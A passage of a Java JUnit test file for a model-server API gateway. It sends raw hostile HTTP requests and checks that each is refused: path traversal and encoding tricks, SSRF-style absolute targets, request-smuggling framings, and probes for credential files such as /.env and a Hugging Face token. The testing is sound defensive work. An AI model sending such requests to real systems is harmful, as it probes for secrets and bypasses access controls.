package dev.gatehouse.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.testing.GatewayFixture;
import dev.gatehouse.testing.GatewayFixture.RawResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile requests, sent byte for byte over a raw HTTP/1.1 socket: each must get exactly the
 * expected status and must never reach the model server.
 *
 * <p>Requests are written with placeholders for the keys, filled in when the case runs: {@code
 * {KEY}} an ordinary key (inference, embeddings, models.read; every model), {@code {MANAGE}} a key
 * with models.manage and inference only, {@code {LIMITED}} an ordinary key limited to models {@code
 * qwen*}, {@code {INFER}} a key with the inference scope only, and {@code {WRONG_SECRET}} the
 * ordinary key's id with a wrong secret. Every character of a request is one byte (ISO-8859-1), so
 * raw non-ASCII and UTF-8 bytes are written as the chars of those bytes.
 *
 * <p>The gateway runs with {@code limits.max_body=4KiB} so that size limits are cheap to hit;
 * {@code limits.max_headers} (64) and {@code limits.max_header_bytes} (16KiB) keep their defaults.
 */
class HostileRequestsTest {

  static GatewayFixture gw;
  static final Map<String, String> KEYS = new LinkedHashMap<>();

  @BeforeAll
  static void start() throws Exception {
    gw = GatewayFixture.start(Map.of("limits.max_body", "4KiB"));
    String ordinary = gw.newKey();
    KEYS.put("{KEY}", ordinary);
    KEYS.put("{MANAGE}", gw.newKey(List.of(), List.of("models.manage", "inference")));
    KEYS.put("{LIMITED}", gw.newKey(List.of("qwen*"), List.of()));
    KEYS.put("{INFER}", gw.newKey(List.of(), List.of("inference")));
    char last = ordinary.charAt(ordinary.length() - 1);
    KEYS.put(
        "{WRONG_SECRET}", ordinary.substring(0, ordinary.length() - 1) + (last == 'A' ? 'B' : 'A'));
  }

  @AfterAll
  static void stop() {
    if (gw != null) {
      gw.close();
    }
  }

  @BeforeEach
  void reset() {
    gw.upstream.reset();
  }

  // ---------------------------------------------------------------------------------------------
  // Request builders. Every request says Connection: close, so the gateway ends the exchange.

  static final String HOST = "Host: gatehouse.test\r\n";
  static final String CLOSE = "Connection: close\r\n\r\n";
  static final String K = bearer("{KEY}");
  static final String MG = bearer("{MANAGE}");
  static final String LIM = bearer("{LIMITED}");
  static final String INF = bearer("{INFER}");
  static final String NO_KEY = "";
  static final String DIGEST = "sha256:" + "ab".repeat(32);

  static String bearer(String key) {
    return "Authorization: Bearer " + key + "\r\n";
  }

  static String basic(String userPass) {
    return "Authorization: Basic "
        + Base64.getEncoder().encodeToString(userPass.getBytes(StandardCharsets.ISO_8859_1))
        + "\r\n";
  }

  /** A request without a body. */
  static String req(String method, String target, String headers) {
    return method + " " + target + " HTTP/1.1\r\n" + HOST + headers + CLOSE;
  }

  static String get(String target, String headers) {
    return req("GET", target, headers);
  }

  /** A request with a JSON body and its exact Content-Length (one char is one byte). */
  static String json(String method, String target, String headers, String body) {
    return method
        + " "
        + target
        + " HTTP/1.1\r\n"
        + HOST
        + headers
        + "Content-Type: application/json\r\nContent-Length: "
        + body.length()
        + "\r\n"
        + CLOSE
        + body;
  }

  static String post(String target, String headers, String body) {
    return json("POST", target, headers, body);
  }

  static String chat(String model) {
    return "{\"model\":\""
        + model
        + "\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],\"stream\":false}";
  }

  /** The bytes of a string's UTF-8 encoding, one char per byte. */
  static String utf8(String s) {
    return new String(s.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
  }

  static String manyHeaders(int n, boolean distinctNames) {
    StringBuilder b = new StringBuilder();
    for (int i = 0; i < n; i++) {
      b.append(distinctNames ? "X-Pad-" + i : "X-Pad").append(": ").append(i).append("\r\n");
    }
    return b.toString();
  }

  static Arguments c(String name, int status, String request) {
    return Arguments.of(name, status, request);
  }

  // ---------------------------------------------------------------------------------------------
  // The table.

  static Stream<Arguments> hostile() {
    List<Arguments> t = new ArrayList<>();

    // ===== Request targets: refused in listen (400) before any route or key is looked at =====
    // why: dot segment that a normalising upstream resolves to /api/push (model theft route)
    t.add(
        c(
            "dot-dot segment /api/../api/push",
            400,
            post("/api/../api/push", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: single-dot segment, a classic prefix-match confuser
    t.add(c("dot segment /./api/tags", 400, get("/./api/tags", K)));
    // why: trailing /.. climbs out of an allowed path on the upstream
    t.add(c("trailing /.. on /api/tags/..", 400, get("/api/tags/..", K)));
    // why: trailing /. is the same path to some parsers and a different one to others
    t.add(c("trailing /. on /api/tags/.", 400, get("/api/tags/.", K)));
    // why: dot segments under /v1 reaching the Ollama management API
    t.add(
        c(
            "dot-dot under /v1/models/../../api/push",
            400,
            post("/v1/models/../../api/push", K, "{\"model\":\"x\"}")));
    // why: dot segments after a parameterised route, so the model id 'ends' the match
    t.add(
        c(
            "dot-dot after blob digest",
            400,
            post("/api/blobs/" + DIGEST + "/../../push", MG, "{}")));
    // why: leading doubled slash: some routers collapse it, others treat //api as an authority
    t.add(c("doubled slash //api/push", 400, post("//api/push", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: inner doubled slash /api//push, collapsed by Go's path.Clean on the upstream
    t.add(
        c(
            "inner doubled slash /api//push",
            400,
            post("/api//push", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: doubled slash in the OpenAI namespace
    t.add(
        c(
            "doubled slash /v1//chat/completions",
            400,
            post("/v1//chat/completions", K, chat("llama3.2:3b"))));
    // why: backslash, read as a separator by Windows-minded parsers
    t.add(c("backslash /api\\push", 400, post("/api\\push", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: backslash dot-dot traversal
    t.add(c("backslash traversal /api/tags\\..\\push", 400, get("/api/tags\\..\\push", K)));
    // why: percent-encoded slash /api%2fpush decodes to /api/push downstream
    t.add(
        c("encoded slash /api%2fpush", 400, post("/api%2fpush", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: upper-case hex variant of the encoded slash
    t.add(
        c("encoded slash /api%2Fpush", 400, post("/api%2Fpush", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: percent-encoded backslash
    t.add(
        c(
            "encoded backslash /api%5cpush",
            400, post("/api%5cpush", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: the classic /api/%2e%2e/ traversal
    t.add(
        c(
            "encoded dot-dot /api/%2e%2e/api/push",
            400, post("/api/%2e%2e/api/push", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: mixed encoded and raw dots, upper-case hex
    t.add(
        c(
            "half-encoded dot-dot /api/.%2E/api/push",
            400, post("/api/.%2E/api/push", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: an encoded dot inside a segment: a decoder that differs sees another path
    t.add(c("encoded dot /api/tags%2e", 400, get("/api/tags%2e", K)));
    // why: encoded dot-dot in the OpenAI namespace
    t.add(
        c(
            "encoded traversal /v1/models/%2e%2e%2f%2e%2e%2fapi%2fpush",
            400, get("/v1/models/%2e%2e%2f%2e%2e%2fapi%2fpush", K)));
    // why: encoded NUL truncates the path in C-based servers
    t.add(c("encoded NUL /api/tags%00", 400, get("/api/tags%00", K)));
    // why: encoded NUL before an allowed suffix
    t.add(c("encoded NUL /api/push%00/api/tags", 400, get("/api/push%00/api/tags", K)));
    // why: double encoding: %252f decodes once to %2f and twice to /
    t.add(
        c(
            "double-encoded slash /api%252fpush",
            400, post("/api%252fpush", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: double-encoded dot-dot
    t.add(c("double-encoded dot-dot /api/%252e%252e/push", 400, get("/api/%252e%252e/push", K)));
    // why: malformed escape %zz: decoders disagree on whether to keep or drop it
    t.add(c("malformed escape /api/%zz", 400, get("/api/%zz", K)));
    // why: truncated escape at the end of the path
    t.add(c("truncated escape /api/tags%2", 400, get("/api/tags%2", K)));
    // why: truncated escape at the very end: % alone
    t.add(c("lone percent /api/tags%", 400, get("/api/tags%", K)));
    // why: encoded '?' moves the query boundary for a decoding upstream
    t.add(c("encoded question mark /api/tags%3f", 400, get("/api/tags%3f", K)));
    // why: encoded '#' moves the fragment boundary
    t.add(c("encoded hash /api/tags%23x", 400, get("/api/tags%23x", K)));
    // why: encoded non-ASCII (UTF-8 of a-umlaut): a homoglyph path
    t.add(c("encoded non-ASCII /api/t%C3%A4gs", 400, get("/api/t%C3%A4gs", K)));
    // why: encoded control character (%01) inside a segment
    t.add(c("encoded control /api/ta%01gs", 400, get("/api/ta%01gs", K)));
    // why: encoded space
    t.add(c("encoded space /api/tags%20", 400, get("/api/tags%20", K)));
    // why: raw Latin-1 byte 0xE4 in the path
    t.add(c("raw byte 0xE4 /api/t\\xE4gs", 400, get("/api/t\u00e4gs", K)));
    // why: raw UTF-8 bytes in the path (homoglyph of /api/tags)
    t.add(c("raw UTF-8 /api/t\\xC3\\xA4gs", 400, get(utf8("/api/t\u00e4gs"), K)));
    // why: raw UTF-8 fullwidth solidus, folded to '/' by NFKC-normalising servers
    t.add(
        c(
            "raw UTF-8 fullwidth slash /api\\xEF\\xBC\\x8Fpush",
            400,
            post(utf8("/api\uff0fpush"), K, "{\"model\":\"x\"}")));
    // why: raw control character 0x01 in the target
    t.add(c("raw control 0x01 in target", 400, get("/api/ta\u0001gs", K)));
    // why: raw DEL (0x7f) in the target
    t.add(c("raw DEL in target", 400, get("/api/tags\u007f", K)));
    // why: raw NUL in the target
    t.add(c("raw NUL in target", 400, get("/api/tags\u0000", K)));
    // why: raw tab inside the target, a request-line splitting trick (refused by the strict framing
    // check)
    t.add(c("raw tab in target", 400, get("/api/\ttags", K)));
    // why: fragment in the request target (must never be sent; a parser may cut there)
    t.add(
        c(
            "fragment /api/push#/api/tags",
            400,
            post("/api/push#/api/tags", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: fragment on an allowed path
    t.add(c("fragment /api/tags#x", 400, get("/api/tags#x", K)));
    // why: absolute-form target naming the upstream directly (proxy abuse / SSRF)
    t.add(
        c(
            "absolute-form http://127.0.0.1:11434/api/tags",
            400,
            get("http://127.0.0.1:11434/api/tags", K)));
    // why: absolute-form target at a management route of another host
    t.add(
        c(
            "absolute-form http://evil.example/api/push",
            400,
            post("http://evil.example/api/push", K, "{\"model\":\"x\"}")));
    // why: asterisk-form (server-wide OPTIONS)
    t.add(c("asterisk-form OPTIONS *", 400, req("OPTIONS", "*", K)));
    // why: target without a leading slash
    t.add(c("relative target api/tags", 400, get("api/tags", K)));
    // why: semicolon path parameter (Tomcat-style ;jsessionid) to dodge exact matching
    t.add(c("path parameter /api/tags;x=1", 404, get("/api/tags;x=1", K)));
    // why: case aliasing: a case-insensitive upstream router would serve /api/push
    t.add(c("case alias /API/PUSH", 404, post("/API/PUSH", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: case aliasing of an allowed route must not be a second spelling of it
    t.add(c("case alias /Api/Tags", 404, get("/Api/Tags", K)));
    // why: case aliasing in the OpenAI namespace
    t.add(
        c(
            "case alias /V1/Chat/Completions",
            404,
            post("/V1/Chat/Completions", K, chat("llama3.2:3b"))));
    // why: trailing slash, matched by lenient routers
    t.add(c("trailing slash /api/tags/", 404, get("/api/tags/", K)));
    // why: trailing slash on an OpenAI route
    t.add(
        c(
            "trailing slash /v1/chat/completions/",
            404,
            post("/v1/chat/completions/", K, chat("llama3.2:3b"))));
    // why: a parameterised prefix with an empty parameter
    t.add(c("empty parameter /v1/models/", 404, get("/v1/models/", K)));
    // why: a parameterised route with an extra segment
    t.add(c("extra segment /v1/models/llama3.2:3b/x", 404, get("/v1/models/llama3.2:3b/x", K)));
    // why: unknown Ollama endpoint (deny by default)
    t.add(c("unknown /api/unknown", 404, get("/api/unknown", K)));
    // why: future OpenAI API version not classified
    t.add(c("unknown /v2/models", 404, get("/v2/models", K)));
    // why: unknown OpenAI endpoint (fine-tuning/files APIs of other servers)
    t.add(c("unknown /v1/files", 404, post("/v1/files", K, "{}")));
    // why: scanner sweep path for other frameworks
    t.add(c("scanner /api/v1/model", 404, get("/api/v1/model", K)));
    // why: credential-file probe
    t.add(c("credential file /.env", 404, get("/.env", K)));
    // why: source-control leak probe
    t.add(c("credential file /.git/config", 404, get("/.git/config", K)));
    // why: credential-file probe for Claude settings
    t.add(c("credential file /.claude/settings.json", 404, get("/.claude/settings.json", K)));
    // why: credential-file probe for OpenAI credentials
    t.add(c("credential file /openai/credentials.json", 404, get("/openai/credentials.json", K)));
    // why: credential-file probe for a Hugging Face token
    t.add(c("credential file /.cache/huggingface/token", 404, get("/.cache/huggingface/token", K)));
    // why: admin panel probe
    t.add(c("admin /admin", 404, get("/admin", K)));
    // why: Apache status page probe
    t.add(c("server status /server-status", 404, get("/server-status", K)));
    // why: request line longer than the 8KiB limit (buffer exhaustion; 414 from the strict
    // framing check, in Gatehouse's own words: Vert.x would answer an empty HTTP/1.0 414)
    t.add(c("request line over 8KiB", 414, get("/api/tags?" + "a".repeat(9000), K)));

    // ===== Methods: wrong method on a known route is 405 with a valid key =====
    // why: GET on an inference endpoint (cache poisoning / CSRF-by-GET attempts)
    t.add(c("GET /api/chat", 405, get("/api/chat", K)));
    // why: DELETE on the model list (verb tampering)
    t.add(
        c("DELETE /api/tags", 405, json("DELETE", "/api/tags", K, "{\"model\":\"llama3.2:3b\"}")));
    // why: PUT on an OpenAI inference endpoint
    t.add(
        c(
            "PUT /v1/chat/completions",
            405,
            json("PUT", "/v1/chat/completions", K, chat("llama3.2:3b"))));
    // why: POST on a read-only OpenAI route
    t.add(c("POST /v1/models", 405, post("/v1/models", K, "{}")));
    // why: PATCH on a read-only route
    t.add(c("PATCH /v1/models", 405, json("PATCH", "/v1/models", K, "{}")));
    // why: GET on the OpenAI embeddings route
    t.add(c("GET /v1/embeddings", 405, get("/v1/embeddings", K)));
    // why: DELETE on a model id under /v1 (an upstream with a delete route would honour it)
    t.add(c("DELETE /v1/models/llama3.2:3b", 405, req("DELETE", "/v1/models/llama3.2:3b", K)));
    // why: CORS preflight on an inference route (browsers driving a local model server)
    t.add(c("OPTIONS /v1/chat/completions", 405, req("OPTIONS", "/v1/chat/completions", K)));
    // why: HEAD on an inference route
    t.add(c("HEAD /api/chat", 405, req("HEAD", "/api/chat", K)));
    // why: TRACE reflects headers (cross-site tracing, credential echo)
    t.add(c("TRACE /api/tags", 405, req("TRACE", "/api/tags", K)));
    // why: TRACE on the root banner
    t.add(c("TRACE /", 405, req("TRACE", "/", K)));
    // why: CONNECT with an origin-form target (tunnel attempt)
    t.add(c("CONNECT /api/tags", 405, req("CONNECT", "/api/tags", K)));
    // why: CONNECT in authority form, asking for a tunnel to the upstream port
    t.add(c("CONNECT 127.0.0.1:11434", 400, req("CONNECT", "127.0.0.1:11434", K)));
    // why: unknown method token
    t.add(c("unknown method FOO /api/tags", 405, req("FOO", "/api/tags", K)));
    // why: lower-case method: a case-insensitive upstream treats it as GET
    t.add(c("lower-case method get /api/tags", 405, req("get", "/api/tags", K)));
    // why: WebDAV method
    t.add(c("PROPFIND /", 405, req("PROPFIND", "/", K)));
    // why: wrong method on a management route for a key that could use it
    t.add(c("GET /api/pull (manage key)", 405, get("/api/pull", MG)));

    // ===== Bodies =====
    // why: truncated JSON on an inference route
    t.add(c("invalid JSON /api/chat", 400, post("/api/chat", K, "{\"model\":\"llama3.2:3b\",")));
    // why: invalid JSON under /v1
    t.add(
        c(
            "invalid JSON /v1/chat/completions",
            400,
            post("/v1/chat/completions", K, "model=llama3.2:3b")));
    // why: a JSON array instead of an object (batch smuggling)
    t.add(c("JSON array /api/chat", 400, post("/api/chat", K, "[" + chat("llama3.2:3b") + "]")));
    // why: a JSON array under /v1
    t.add(
        c(
            "JSON array /v1/chat/completions",
            400,
            post("/v1/chat/completions", K, "[" + chat("llama3.2:3b") + "]")));
    // why: a bare JSON string
    t.add(c("JSON string /api/generate", 400, post("/api/generate", K, "\"llama3.2:3b\"")));
    // why: JSON null
    t.add(c("JSON null /api/embed", 400, post("/api/embed", K, "null")));
    // why: empty body on a JSON route
    t.add(c("empty body /api/chat", 400, post("/api/chat", K, "")));
    // why: JSON with a comment (accepted by lenient parsers only)
    t.add(
        c("JSON comment /api/chat", 400, post("/api/chat", K, "{/*x*/\"model\":\"llama3.2:3b\"}")));
    // why: single-quoted JSON (lenient parsers only)
    t.add(c("single-quoted JSON /api/chat", 400, post("/api/chat", K, "{'model':'llama3.2:3b'}")));
    // why: invalid UTF-8 inside a JSON string
    t.add(
        c(
            "invalid UTF-8 in JSON",
            400,
            post("/api/chat", K, "{\"model\":\"llama3.2:3b\",\"prompt\":\"\u00ff\u00fe\"}")));
    // why: duplicate model keys: the gateway and the upstream may read different ones
    t.add(
        c(
            "duplicate model /api/chat",
            400,
            post(
                "/api/chat",
                K,
                "{\"model\":\"llama3.2:3b\",\"model\":\"gpt-oss:120b-cloud\",\"messages\":[]}")));
    // why: duplicate model keys under /v1
    t.add(
        c(
            "duplicate model /v1/chat/completions",
            400,
            post(
                "/v1/chat/completions",
                K,
                "{\"model\":\"llama3.2:3b\",\"messages\":[],\"model\":\"x:cloud\"}")));
    // why: duplicate non-model keys are just as ambiguous
    t.add(
        c(
            "duplicate stream key /api/generate",
            400,
            post(
                "/api/generate",
                K,
                "{\"model\":\"llama3.2:3b\",\"stream\":false,\"stream\":true}")));
    // why: non-string model (number)
    t.add(
        c("numeric model /api/chat", 400, post("/api/chat", K, "{\"model\":42,\"messages\":[]}")));
    // why: non-string model (array) under /v1
    t.add(
        c(
            "array model /v1/chat/completions",
            400,
            post(
                "/v1/chat/completions",
                K,
                "{\"model\":[\"llama3.2:3b\",\"x:cloud\"],\"messages\":[]}")));
    // why: non-string model (object)
    t.add(
        c(
            "object model /v1/embeddings",
            400,
            post("/v1/embeddings", K, "{\"model\":{\"name\":\"x:cloud\"},\"input\":\"a\"}")));
    // why: non-string name on a management route
    t.add(c("numeric name /api/pull (manage)", 400, post("/api/pull", MG, "{\"name\":1}")));
    // why: declared body over limits.max_body
    t.add(
        c(
            "Content-Length over max_body /api/chat",
            413,
            "POST /api/chat HTTP/1.1\r\n"
                + HOST
                + K
                + "Content-Type: application/json\r\nContent-Length: 5000\r\n"
                + CLOSE));
    // why: absurd declared length under /v1
    t.add(
        c(
            "Content-Length 10^17 /v1/chat/completions",
            413,
            "POST /v1/chat/completions HTTP/1.1\r\n"
                + HOST
                + K
                + "Content-Type: application/json\r\nContent-Length: 100000000000000000\r\n"
                + CLOSE));
    // why: Expect: 100-continue with an oversized body must not be invited in
    t.add(
        c(
            "Expect 100-continue over max_body",
            413,
            "POST /api/generate HTTP/1.1\r\n"
                + HOST
                + K
                + "Content-Type: application/json\r\nContent-Length: 10485760\r\nExpect: 100-continue\r\n"
                + CLOSE));
    // why: chunked body over the limit (no length declared up front)
    t.add(
        c(
            "chunked body over max_body /v1/chat/completions",
            413,
            "POST /v1/chat/completions HTTP/1.1\r\n"
                + HOST
                + K
                + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
                + CLOSE
                + "1400\r\n"
                + "a".repeat(0x1400)
                + "\r\n0\r\n\r\n"));
    // why: JSON padded past the limit with whitespace
    t.add(
        c(
            "JSON over max_body /api/chat",
            413,
            post("/api/chat", K, "{\"model\":\"llama3.2:3b\"" + " ".repeat(5000) + "}")));

    // ===== Credentials: every failure is the same 401 =====
    // why: no key on an inference route
    t.add(c("no key POST /api/chat", 401, post("/api/chat", NO_KEY, chat("llama3.2:3b"))));
    // why: no key on the OpenAI model list (scanner fingerprinting)
    t.add(c("no key GET /v1/models", 401, get("/v1/models", NO_KEY)));
    // why: no key on the root banner ('Ollama is running' fingerprint)
    t.add(c("no key GET /", 401, get("/", NO_KEY)));
    // why: no key on a management route: must not reveal that it exists (not 403/405)
    t.add(c("no key GET /api/push", 401, get("/api/push", NO_KEY)));
    // why: no key on an unknown path: must not reveal that it does not exist (not 404)
    t.add(c("no key GET /api/unknown", 401, get("/api/unknown", NO_KEY)));
    // why: no key on a credential-file probe
    t.add(c("no key GET /.env", 401, get("/.env", NO_KEY)));
    // why: a well-formed key that does not exist
    t.add(c("unknown key", 401, get("/api/tags", bearer("gk_aaaaaaaaaaaa_" + "A".repeat(40)))));
    // why: a real key id with a wrong secret
    t.add(
        c(
            "wrong secret",
            401,
            post("/v1/chat/completions", bearer("{WRONG_SECRET}"), chat("llama3.2:3b"))));
    // why: another vendor's key format
    t.add(
        c(
            "OpenAI-style key",
            401,
            post("/v1/chat/completions", bearer("sk-proj-" + "x".repeat(48)), chat("gpt-4o"))));
    // why: malformed Bearer: scheme without a token
    t.add(c("Bearer without token", 401, get("/api/tags", "Authorization: Bearer\r\n")));
    // why: malformed Bearer: token without a scheme
    t.add(c("token without scheme", 401, get("/api/tags", "Authorization: {KEY}\r\n")));
    // why: unsupported scheme carrying a valid key
    t.add(c("Token scheme", 401, get("/api/tags", "Authorization: Token {KEY}\r\n")));
    // why: valid key followed by junk in the same header
    t.add(
        c("Bearer key plus junk", 401, get("/api/tags", "Authorization: Bearer {KEY} extra\r\n")));
    // why: key in the query string (leaks into logs and Referer headers)
    t.add(c("key in query ?key=", 401, get("/api/tags?key={KEY}", NO_KEY)));
    // why: key in the query string under /v1
    t.add(c("key in query ?api_key=", 401, get("/v1/models?api_key={KEY}", NO_KEY)));
    // why: key in a cookie
    t.add(c("key in cookie", 401, get("/api/tags", "Cookie: api_key={KEY}\r\n")));
    // why: key in Proxy-Authorization
    t.add(
        c(
            "key in Proxy-Authorization",
            401,
            get("/api/tags", "Proxy-Authorization: Bearer {KEY}\r\n")));
    // why: x-api-key: password, a published scanner signature (Anthropic-style probe)
    t.add(
        c(
            "x-api-key: password /anthropic/v1/models",
            401,
            get("/anthropic/v1/models", "X-Api-Key: password\r\n")));
    // why: the same scanner signature on a real route
    t.add(
        c(
            "x-api-key: password /v1/messages",
            401,
            post(
                "/v1/messages",
                "x-api-key: password\r\nanthropic-version: 2023-06-01\r\n",
                chat("claude-3-5-haiku-latest"))));
    // why: HTTP Basic with a guessed password
    t.add(c("Basic admin:password", 401, get("/api/tags", basic("admin:password"))));
    // why: HTTP Basic with the key id but a wrong password
    t.add(c("Basic with wrong password", 401, get("/api/tags", basic("gatehouse:wrong-password"))));
    // why: HTTP Basic that is not base64
    t.add(
        c("Basic not base64", 401, get("/api/tags", "Authorization: Basic !!!not-base64!!!\r\n")));
    // why: HTTP Basic without a colon
    t.add(c("Basic without colon", 401, get("/api/tags", basic("justakey"))));
    // why: two Authorization headers: which one does each hop use?
    t.add(
        c(
            "two Authorization headers",
            401,
            get("/api/tags", K + bearer("gk_aaaaaaaaaaaa_" + "A".repeat(40)))));
    // why: two identical Authorization headers are still ambiguous
    t.add(c("two identical Authorization headers", 401, get("/api/tags", K + K)));
    // why: two x-api-key headers
    t.add(
        c(
            "two x-api-key headers",
            401,
            get("/v1/models", "x-api-key: {KEY}\r\nx-api-key: {MANAGE}\r\n")));
    // why: Authorization and x-api-key disagree (confused-deputy between hops)
    t.add(
        c(
            "Authorization and x-api-key disagree",
            401,
            get("/api/tags", K + "x-api-key: {MANAGE}\r\n")));
    // why: valid Bearer plus the scanner's x-api-key: password
    t.add(
        c(
            "valid Bearer plus x-api-key: password",
            401,
            get("/v1/models", K + "X-Api-Key: password\r\n")));
    // why: request smuggling shape (Content-Length and chunked) without a key: a framing error,
    // refused (and the connection closed) before the key is even looked at (issue 9)
    t.add(
        c(
            "CL+TE without key",
            400,
            "POST /api/chat HTTP/1.1\r\n"
                + HOST
                + "Content-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n"
                + CLOSE
                + "0\r\n\r\n"));

    // ===== Header limits =====
    // why: more distinct headers than limits.max_headers (64): parser exhaustion
    t.add(c("70 distinct headers", 431, get("/api/tags", K + manyHeaders(70, true))));
    // why: more headers than limits.max_headers, all with the same name
    t.add(c("100 repeated X-Pad headers", 431, get("/api/tags", K + manyHeaders(100, false))));
    // why: a single header larger than limits.max_header_bytes, 16KiB (the strict framing check
    // answers 431, counting as the decoder does)
    t.add(c("17KiB header", 431, get("/api/tags", K + "X-Big: " + "a".repeat(17 * 1024) + "\r\n")));
    // why: whitespace between header name and colon, a smuggling primitive (refused by the strict
    // framing check; Netty would too)
    t.add(
        c(
            "space before colon in header",
            400,
            get("/api/tags", "Authorization : Bearer {KEY}\r\n")));

    // ===== Wire-level malformations. Each targets POST /api/push with an ordinary key, so a
    // request that HTTP parsing lets through is refused by scope (403) and one that the parser
    // refuses gets its status (400 and friends) before the gateway sees it. =====
    String push = "{\"model\":\"llama3.2:3b\"}";
    String pushHead =
        "POST /api/push HTTP/1.1\r\n" + HOST + K + "Content-Type: application/json\r\n";
    // why: bare LF line endings (parsers disagree on where headers end); refused by
    // the strict framing check
    t.add(c("wire: bare LF line endings", 400, post("/api/push", K, push).replace("\r\n", "\n")));
    // why: obs-fold continuation line (header injection / smuggling primitive); Netty would
    // unfold it, proxies differ, so the strict framing check refuses it (issue 9)
    t.add(
        c(
            "wire: obs-fold header",
            400,
            pushHead
                + "X-Folded: a\r\n b\r\nContent-Length: "
                + push.length()
                + "\r\n"
                + CLOSE
                + push));
    // why: NUL byte in a header value (refused by the strict framing check; Netty would too)
    t.add(
        c(
            "wire: NUL in header value",
            400,
            pushHead
                + "X-Nul: a\u0000b\r\nContent-Length: "
                + push.length()
                + "\r\n"
                + CLOSE
                + push));
    // why: illegal character in a header name (refused by the strict framing check; Netty would
    // too)
    t.add(
        c(
            "wire: illegal header name",
            400,
            pushHead + "X(Bad): 1\r\nContent-Length: " + push.length() + "\r\n" + CLOSE + push));
    // why: illegal character in the method token (refused by the strict framing check)
    t.add(c("wire: illegal method token", 400, json("PO(ST", "/api/push", K, push)));
    // why: HTTP/1.2: a version the server does not speak: 505 (Vert.x would answer "HTTP/1.2 501",
    // echoing the version: a fingerprint)
    t.add(c("wire: HTTP/1.2", 505, post("/api/push", K, push).replace("HTTP/1.1", "HTTP/1.2")));
    // why: HTTP/2.0 on a request line (h2 downgrade confusion): 505
    t.add(
        c(
            "wire: HTTP/2.0 request line",
            505,
            post("/api/push", K, push).replace("HTTP/1.1", "HTTP/2.0")));
    // why: lower-case protocol name: not an HTTP-version at all (RFC 9112 §2.3), so 400
    t.add(
        c(
            "wire: lower-case http/1.1",
            400,
            post("/api/push", K, push).replace("HTTP/1.1", "http/1.1")));
    // why: HTTP/0.9 simple request, no version and no headers (refused by the strict framing check)
    t.add(c("wire: HTTP/0.9 simple request", 400, "GET /api/push\r\n\r\n"));
    // why: cleartext HTTP/2 prior-knowledge preface, h2c being disabled: 505
    t.add(c("wire: h2c preface", 505, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
    // why: request line with four tokens (refused by the strict framing check)
    t.add(
        c(
            "wire: four-token request line",
            400,
            post("/api/push", K, push).replace(" HTTP/1.1", " HTTP/1.1 extra")));
    // why: doubled spaces in the request line; Netty would read it leniently; refused as
    // malformed by the strict framing check (issue 9)
    t.add(
        c(
            "wire: doubled spaces in request line",
            400,
            post("/api/push", K, push)
                .replace("POST /api/push HTTP/1.1", "POST  /api/push  HTTP/1.1")));
    // why: bare CR inside the request target (refused by the strict framing check)
    t.add(c("wire: bare CR in target", 400, post("/api/\rpush", K, push)));
    // why: HTTP/1.1 without Host: RFC 9112 §3.2 asks for 400, which the framing check now sends
    // (Vert.x alone accepted it; issue 9)
    t.add(c("wire: no Host", 400, post("/api/push", K, push).replace(HOST, "")));
    // why: two Host headers: RFC 9112 §3.2 asks for 400 (issue 9)
    t.add(
        c(
            "wire: two Host headers",
            400,
            post("/api/push", K, push).replace(HOST, HOST + "Host: evil.example\r\n")));
    // why: two different Content-Length values, classic smuggling (refused by the strict framing
    // check; Netty would too)
    t.add(
        c(
            "wire: conflicting Content-Length",
            400,
            pushHead
                + "Content-Length: "
                + push.length()
                + "\r\nContent-Length: 5\r\n"
                + CLOSE
                + push));
    // why: non-numeric Content-Length (refused by the strict framing check; Netty would too)
    t.add(c("wire: Content-Length abc", 400, pushHead + "Content-Length: abc\r\n" + CLOSE + push));
    // why: signed Content-Length, +n parses in lenient number parsers (refused by the strict
    // framing check; Netty would too)
    t.add(
        c(
            "wire: Content-Length +n",
            400,
            pushHead + "Content-Length: +" + push.length() + "\r\n" + CLOSE + push));
    // why: negative Content-Length (refused by the strict framing check; Netty would too)
    t.add(c("wire: Content-Length -1", 400, pushHead + "Content-Length: -1\r\n" + CLOSE + push));
    // why: Content-Length and chunked together (CL.TE / TE.CL smuggling); Netty would drop the
    // length, a front proxy may not: 400 and close (RFC 9112 §6.1, issue 9)
    t.add(
        c(
            "wire: Content-Length with chunked",
            400,
            pushHead
                + "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n"
                + CLOSE
                + Integer.toHexString(push.length())
                + "\r\n"
                + push
                + "\r\n0\r\n\r\n"));
    // why: an obfuscated transfer coding that some hops take for chunked; Netty would read no
    // body and run the body as the next request: refused (issue 9)
    t.add(
        c(
            "wire: Transfer-Encoding xchunked",
            400,
            pushHead + "Transfer-Encoding: xchunked\r\n" + CLOSE + push));
    // why: malformed chunk size: the framing check answers 400 and closes (Netty alone failed
    // the connection without an answer)
    t.add(
        c(
            "wire: malformed chunk size",
            400,
            pushHead
                + "Transfer-Encoding: chunked\r\n"
                + CLOSE
                + "zz\r\n"
                + push
                + "\r\n0\r\n\r\n"));

    // ===== Scopes: an ordinary key (inference, embeddings, models.read) =====
    // why: model theft via push
    t.add(c("scope: /api/push", 403, post("/api/push", K, "{\"model\":\"llama3.2:3b\"}")));
